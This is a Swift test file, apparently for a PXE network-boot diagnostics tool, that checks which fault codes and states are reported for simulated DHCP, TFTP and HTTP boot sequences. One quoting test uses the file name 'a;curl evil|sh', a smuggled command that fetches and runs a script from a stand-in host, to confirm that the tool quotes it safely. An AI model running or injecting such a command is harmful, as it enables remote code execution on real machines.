import BootPolicy
import Testing
import Wire

@testable import Sessions

/// Each fault as the wire shows it, and what is to be said of it.
@Suite("verdicts on boots")
struct VerdictTests {
    struct Case: CustomTestStringConvertible, Sendable {
        let name: String
        let code: String?
        let state: Standing.State
        /// When it is looked at, in seconds.
        let look: Double
        let tell: @Sendable (inout Story) throws -> Void

        init(
            _ name: String, _ code: String?, _ state: Standing.State = .stuck, look: Double = 30,
            tell: @escaping @Sendable (inout Story) throws -> Void
        ) {
            (self.name, self.code, self.state, self.look, self.tell) = (name, code, state, look, tell)
        }

        var testDescription: String { name }
    }

    static let dhcp: [Case] = [
        Case("a boot that goes well", nil, .booted) { try $0.bootWhole(at: 0) },
        Case("a boot under way", nil, .underWay, look: 3) { try $0.told(at: 0) },
        Case("a port that woke late", "PF-V001", .underWay, look: 3) { try $0.offer(waited: 28, at: 0) },
        Case("octets the wrong way round", "PF-V001", .underWay, look: 3) { try $0.offer(waited: 28 << 8, at: 0) },
        Case("an iPXE in a ROM whose port woke late", "PF-V001", .underWay, look: 3) {
            try $0.offer("http://10.0.0.2/boot.ipxe", .direct, stage: .foreignIPXE, waited: 5 << 2, at: 0)
        },
        Case("an iPXE in a ROM that asks in time", nil, .underWay, look: 3) {
            try $0.offer("http://10.0.0.2/boot.ipxe", .direct, stage: .foreignIPXE, waited: 2 << 2, at: 0)
        },
        Case("a port that woke late between server and machine", "PF-V001", .underWay, look: 14) {
            try $0.offer(at: 0)
            try $0.offer(at: 4)
            $0.lease(at: 13)
        },
        Case("no DHCP server", "PF-V002") {
            for second in [0.0, 4, 12, 28] { try $0.offer(at: second) }
        },
        Case("a lease that says PXEClient", "PF-V003") {
            try $0.offer(at: 0)
            $0.lease(at: 0.1, isBootServer: true)
        },
        Case("a server that was found to say PXEClient", "PF-V003") {
            $0.circumstances.findings = [Story.router: [.leaseIsBootServer]]
            try $0.offer(at: 0)
            $0.lease(at: 0.1)
        },
        Case("a lease that names a file", "PF-V004") {
            $0.circumstances.findings = [Story.router: [.leaseNamesFile, .nextServerIsOther]]
            try $0.offer("undionly.kpxe", .direct, architecture: 0, at: 0)
            $0.lease(at: 0.1)
        },
        Case("port 4011 never asked", "PF-V005") {
            try $0.offer(at: 0)
            $0.lease(at: 0.1)
        },
        Case("port 4011 dropped by this host", "PF-V006", look: 6) { story in
            try story.offer(at: 0)
            story.lease(at: 0.1)
            story.hear(.unheard(UnheardRequest(client: story.address, port: 4011, interface: 2)), at: 5)
        },
        Case("port 69 dropped by this host", "PF-V007", look: 8) { story in
            try story.told(at: 0)
            story.hear(.unheard(UnheardRequest(client: story.address, port: 69, interface: 2)), at: 5)
        },
        Case("a file that was never asked for", "PF-V008") { try $0.told(at: 0) },
        Case("a script that was never asked for", "PF-V008") {
            try $0.told(at: 0)
            $0.end("snponly.efi", at: 1)
            try $0.offer("http://10.0.0.2/boot.ipxe", .direct, stage: .foreignIPXE, at: 3)
            $0.lease(at: 3.1)
        },
        Case("another proxy", "PF-V018") {
            try $0.offer(at: 0)
            $0.foreign(.offer, .any, from: Story.other, isBootServer: true, at: 0.05)
            $0.lease(at: 0.1)
        },
        Case("a refusal", "PF-D011", .refused, look: 1) { try $0.refuse(.loaderMissing, at: 0) },
        Case("observing", "PF-D013", .refused, look: 1) { try $0.refuse(.observing, at: 0) },
        Case("a machine that is left alone", nil, .refused, look: 1) { try $0.refuse(.leftAlone, at: 0) },
    ]

    static let files: [Case] = [
        Case("a loader that is not there", "PF-V009", look: 2) {
            try $0.told("gone.efi", at: 0)
            $0.refuse("gone.efi", .notFound, at: 1)
        },
        Case("names that need not exist", nil, .underWay, look: 3) {
            try $0.told(at: 0)
            $0.end("snponly.efi", at: 1)
            $0.refuse("autoexec.ipxe", .notFound, at: 2)
        },
        Case("a kernel that is not there", "PF-V009") {
            try $0.told(at: 0)
            $0.end("snponly.efi", at: 1)
            $0.get("/boot.ipxe", at: 3)
            $0.get("/debian/vmlinuz", status: 404, at: 4)
        },
        Case("a loader that may not be read", "PF-V010", look: 2) {
            try $0.told(at: 0)
            $0.refuse("snponly.efi", .accessDenied, at: 1)
        },
        Case("nothing acknowledged, twice", "PF-V011", look: 49) {
            try $0.told(at: 0)
            for second in [20.0, 40] { $0.end("snponly.efi", .timedOut, octets: 0, at: second) }
        },
        Case("nothing acknowledged, again and again", "PF-V011", look: 25) {
            try $0.told(at: 0)
            for second in [16.0, 20, 24] { $0.end("snponly.efi", .timedOut, octets: 0, at: second) }
        },
        Case("the end of a size probe was lost, and the file came", nil, .underWay, look: 32) {
            try $0.told(at: 0)
            $0.start("snponly.efi", at: 2)
            $0.end("snponly.efi", at: 3)
            for second in [20.0, 21, 22] { $0.end("snponly.efi", .timedOut, octets: 0, at: second) }
        },
        Case("the end of one size probe was lost", nil, .underWay) {
            try $0.told(at: 0)
            $0.end("snponly.efi", .timedOut, octets: 0, at: 20)
        },
        Case("half of it, and no more", "PF-V012") {
            try $0.told(at: 0)
            $0.start("snponly.efi", size: 90_000, at: 1)
            $0.end("snponly.efi", .timedOut, octets: 50_000, at: 20)
        },
        Case("a link that loses", "PF-V013", .underWay, look: 4) {
            try $0.told(at: 0)
            $0.end("snponly.efi", octets: 400_000, again: 60, at: 2)
        },
        Case("a loader that says nothing", "PF-V014", .underWay, look: 70) {
            try $0.told(at: 0)
            $0.end("snponly.efi", at: 2)
        },
        Case("a loader that waits for a port", nil, .underWay, look: 50) {
            try $0.told(at: 0)
            $0.end("snponly.efi", at: 2)
        },
        Case("a memory test that somebody ended", nil, .underWay, look: 309) {
            try $0.told("memtest.efi", at: 0)
            $0.end("memtest.efi", at: 2)
            try $0.told("memtest.efi", at: 300)
        },
        Case("what need not exist, asked for by who has a kernel", nil, .booted) {
            try $0.bootWhole(at: 0)
            $0.get("/debian/images/product.img", status: 404, at: 12)
            $0.get("/favicon.ico", isComplete: false, at: 14)
            $0.get("/pool/initramfs-tools_0.142_all.deb", status: 404, at: 15)
        },
        Case("what need not exist, asked for before the kernel", nil, .booted) {
            try $0.told(at: 0)
            $0.end("snponly.efi", at: 1)
            $0.refuse("autoexec.ipxe", .notFound, at: 2)
            $0.get("/debian/vmlinuz", at: 4)
        },
        Case("an initrd that is not there", "PF-V009", look: 30) {
            try $0.told(at: 0)
            $0.end("snponly.efi", at: 1)
            $0.get("/debian/vmlinuz", at: 4)
            $0.get("/debian/initrd.img", status: 404, at: 5)
            $0.get("/debian/images/product.img", status: 404, at: 6)
        },
        Case("HTTP Boot that asked for the size only", "PF-V008") {
            try $0.offer("http://10.0.0.2/a.efi", .http, stage: .httpFirmware, at: 0)
            $0.lease(at: 0.1)
            $0.get("/a.efi", isHead: true, at: 1)
        },
        Case("a loader for other machines", "PF-V015", look: 10) {
            $0.circumstances.kind = { _ in .efi(LoaderKind.Machine(rawValue: 0xAA64), isSigned: false) }
            try $0.told(at: 0)
            $0.end("snponly.efi", at: 2)
        },
        Case("a BIOS loader for UEFI", "PF-V015", look: 10) {
            $0.circumstances.kind = { _ in .bios }
            try $0.told("undionly.kpxe", at: 0)
            $0.end("undionly.kpxe", at: 2)
        },
        Case("a GRUB that asks the DHCP server's next-server", "PF-V004", look: 70) {
            $0.circumstances.findings = [Story.router: [.nextServerIsOther]]
            try $0.told("grubx64.efi", at: 0)
            $0.end("grubx64.efi", at: 2)
        },
        Case("too little memory for a RAM disk of any name", "PF-V016") {
            try $0.told(at: 0)
            $0.end("snponly.efi", at: 1)
            $0.get("/boot.ipxe", at: 3)
            $0.get("/vmlinuz", at: 4)
            $0.get("/large.img", octets: 300_000, isComplete: false, at: 6)
        },
        Case("an image that an installer broke off", nil, .booted) {
            try $0.told(at: 0)
            $0.end("snponly.efi", at: 1)
            $0.get("/boot.ipxe", at: 3)
            $0.get("/vmlinuz", at: 4)
            $0.get("/initrd.img", at: 6)
            $0.get("/images/product.img", octets: 300_000, isComplete: false, at: 8)
        },
        Case("too little memory", "PF-V016") {
            try $0.told(at: 0)
            $0.end("snponly.efi", at: 1)
            $0.get("/boot.ipxe", at: 3)
            $0.get("/debian/vmlinuz", at: 4)
            $0.get("/debian/initrd.img", octets: 300_000, isComplete: false, at: 6)
        },
        Case("an initrd that came after all", nil, .booted) {
            try $0.told(at: 0)
            $0.get("/debian/vmlinuz", at: 4)
            $0.get("/debian/initrd.img", octets: 300, isComplete: false, at: 6)
            $0.get("/debian/initrd.img", octets: 9000, at: 8)
        },
        Case("a kernel that does not stay up", "PF-V017", look: 49) {
            try $0.bootWhole(at: 0)
            try $0.offer(at: 40)
        },
        Case("a disk that fails", "PF-V021") {
            try $0.told(at: 0)
            $0.start("snponly.efi", at: 1)
            $0.end("snponly.efi", .readFailed, octets: 10, at: 2)
        },
        Case("a mirror that fails", "PF-V020") {
            $0.circumstances.upstreamTrouble = "no name server"
            try $0.told(at: 0)
            $0.end("snponly.efi", at: 1)
            $0.get("/mirror/debian/linux", status: 502, at: 3)
        },
        Case("an install that failed", "PF-V019") { story in
            story.hosts = ["web1": [story.card]]
            try story.bootWhole(at: 0)
            story.install("failed", reason: "no disk", at: 20)
        },
        Case("an install under way", nil, .underWay, look: 1000) { story in
            story.hosts = ["web1": [story.card]]
            try story.bootWhole(at: 0)
            story.install("installing", at: 20)
        },
    ]

    @Test("what the wire shows", arguments: dhcp + files)
    func verdict(one: Case) throws {
        var story = Story()
        story.circumstances.listeningSince = Story.start - 3_600_000
        try one.tell(&story)
        let standing = try story.standing(at: one.look)
        #expect(standing.verdict?.code == one.code)
        #expect(standing.state == one.state)
        if let verdict = standing.verdict {
            #expect(!verdict.cause.isEmpty && !verdict.fix.isEmpty)
            #expect(!verdict.cause.contains("\n"))
        }
    }

    @Test("a transfer that is said to stand still, and one that moves")
    func progress() throws {
        var story = Story()
        try story.told(at: 0)
        story.start("snponly.efi", size: 90_000, at: 1)
        func progress(_ octets: Int64, _ silence: Int64, isHTTP: Bool = false) -> FetchProgress {
            FetchProgress(
                path: "snponly.efi", octets: octets, size: 90_000, rate: 0, retransmits: 3, silence: silence,
                isHTTP: isHTTP)
        }
        #expect(try story.standing(at: 60, progress: progress(500, 31_000)).verdict?.code == "PF-V012")
        #expect(try story.standing(at: 60, progress: progress(0, 31_000)).verdict?.code == "PF-V011")
        for silence: Int64 in [100, 29_000] {
            let standing = try story.standing(at: 60, progress: progress(500, silence))
            #expect(standing == Standing(state: .underWay, verdict: nil))
        }
        // What was sent to the boot before.
        #expect(try story.standing(at: 60, progress: progress(500, 61_000)).verdict == nil)
        let paused = try #require(try story.standing(at: 60, progress: progress(500, 31_000, isHTTP: true)).verdict)
        #expect(paused.code == "PF-V012" && !paused.fix.contains("tftp") && !paused.cause.contains("acknowledged"))
        let waiting = try story.standing(at: 60, progress: progress(0, 31_000, isHTTP: true))
        #expect(waiting.verdict?.code == "PF-V020" && waiting.state == .underWay)
        // A size probe whose end was lost stands still for ever.
        story.end("snponly.efi", at: 60)
        #expect(try story.standing(at: 62, progress: progress(0, 40_000)).verdict == nil)
        try story.bootWhole(at: 62)
        let later = FetchProgress(
            path: "/live.squashfs", octets: 5, size: 9, rate: 0, retransmits: 0, silence: 40_000, isHTTP: true)
        #expect(try story.standing(at: 300, progress: later).verdict == nil)
    }

    @Test("the end of a transfer that was lost keeps no boot under way")
    func lostEnd() throws {
        var story = Story()
        try story.told(at: 0)
        story.end("snponly.efi", at: 1)
        story.get("/debian/vmlinuz", at: 3)
        story.start("debian/initrd.img", at: 4)
        #expect(try story.standing(at: 100).state == .underWay)
        #expect(try story.standing(at: 310).state == .booted)
        story.table.forgetTransfers()
        #expect(try story.standing(at: 100) == Standing(state: .booted, verdict: nil))
        var other = Story()
        try other.told(at: 0)
        other.start("snponly.efi", at: 1)
        other.table.forgetTransfers()
        #expect(try other.standing(at: 100) == Standing(state: .underWay, verdict: nil))
    }

    @Test(
        "a stranger's name for a file is no command",
        arguments: [
            ("a;curl evil|sh", " --file 'a;curl evil|sh'"), ("grub/x86_64-efi/a.lst", " --file grub/x86_64-efi/a.lst"),
            ("it's", " --file 'it'\\''s'"), ("-x", ""), ("a\nb", ""), ("ä", ""),
        ])
    func quoting(name: String, shown: String) throws {
        var story = Story()
        try story.told(at: 0)
        story.end("snponly.efi", at: 1)
        story.refuse(name, .notFound, at: 3)
        let verdict = try #require(try story.standing(at: 30).verdict)
        #expect(verdict.fix == "put it there: pilotfish explain \(story.hardware)\(shown)")
    }

    @Test("what it asked before the service listened is no sign of a sleeping port")
    func lateService() throws {
        var story = Story()
        story.circumstances.listeningSince = Story.start - 1000
        try story.offer(waited: 28, at: 0)
        #expect(try story.standing(at: 3).verdict == nil)
    }

    @Test("a machine that goes round and round has the cause of the boot before")
    func loop() throws {
        var story = Story()
        try story.told(at: 0)
        story.end("snponly.efi", at: 2)
        try story.offer(at: 20)
        #expect(try story.standing(at: 21).verdict == nil)
        let stuck = try story.standing(at: 29)
        #expect(stuck.verdict?.code == "PF-V014" && stuck.state == .stuck)
        // Whose boots end in the same way one after the other needs less.
        story.lease(at: 29.9)
        try story.offer(port: .bootService, at: 30)
        story.end("snponly.efi", at: 30)
        try story.offer(at: 40)
        #expect(try story.standing(at: 41).verdict == nil)
        #expect(try story.standing(at: 43).verdict?.code == "PF-V014")
        let moving = FetchProgress(
            path: "snponly.efi", octets: 5, size: 9, rate: 0, retransmits: 0, silence: 100, isHTTP: false)
        #expect(try story.standing(at: 60, progress: moving) == Standing(state: .underWay, verdict: nil))
        story.start("snponly.efi", at: 44)
        #expect(try story.standing(at: 70) == Standing(state: .underWay, verdict: nil))
        try story.bootWhole(at: 72)
        #expect(try story.standing(at: 90).verdict == nil)
    }

    @Test("learned times make it patient, within bounds")
    func learned() {
        var times = StageTimes()
        #expect(times.patience(.loader, usual: 20_000) == 20_000)
        for _ in 0..<10 { times.note(30, of: .loader) }
        #expect((50_000...100_000).contains(times.patience(.loader, usual: 20_000)))
        for _ in 0..<100 { times.note(4000, of: .loader) }
        #expect(times.patience(.loader, usual: 20_000) == 120_000)
    }

    @Test("codes are told apart, and each has its texts")
    func codes() {
        #expect(Set(VerdictCode.allCases.map(\.code)).count == VerdictCode.allCases.count)
        #expect(VerdictCode.portWokeLate.code == "PF-V001" && VerdictCode.fileUnreadable.code == "PF-V021")
        for code in VerdictCode.allCases { #expect(!code.summary.isEmpty && code.explanation.count > 60, "\(code)") }
    }
}
